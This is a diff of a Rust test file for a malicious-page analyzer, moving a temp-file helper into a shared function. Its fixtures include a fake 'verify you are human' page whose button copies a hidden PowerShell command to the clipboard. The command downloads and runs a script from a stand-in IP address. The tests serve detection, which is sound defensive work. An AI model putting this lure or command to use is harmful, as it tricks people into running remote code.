@@ -31,6 +31,13 @@ fn reports(o: &Output) -> Vec<Value> {
 }
 
 /// `airlock analyze --json PATH`: the verdict, and the rules that fired.
+/// Writes `text` to `dir/name`; returns the path.
+fn file_in(dir: &Path, name: &str, text: &str) -> std::path::PathBuf {
+    let path = dir.join(name);
+    std::fs::write(&path, text).unwrap();
+    path
+}
+
 fn verdict_of(path: &Path) -> (String, Vec<String>) {
     let o = airlock(&["analyze", "--json", path.to_str().unwrap()]);
     let r = &reports(&o)[0]["verdict"];
@@ -672,11 +679,7 @@ fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
 #[test]
 fn a_pages_own_markup_and_inline_handlers_are_run() {
     let dir = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let path = dir.path().join(name);
-        std::fs::write(&path, text).unwrap();
-        path
-    };
+    let write = |name: &str, text: &str| file_in(dir.path(), name, text);
     let clickfix = write(
         "verify.html",
         r#"<html><head><title>Verify you are human</title></head><body>
@@ -721,11 +724,7 @@ document.getElementById('menu').setAttribute('aria-expanded', 'false');
 #[test]
 fn a_pages_markup_neither_hides_its_handlers_nor_makes_ordinary_pages_suspicious() {
     let dir = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let path = dir.path().join(name);
-        std::fs::write(&path, text).unwrap();
-        path
-    };
+    let write = |name: &str, text: &str| file_in(dir.path(), name, text);
     let lure = r#"<p>Press Win+R, then Ctrl+V and Enter.</p><button onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr https://198.51.100.9/c.ps1 | iex')">Verify</button>"#;
     for (name, page) in [
         (
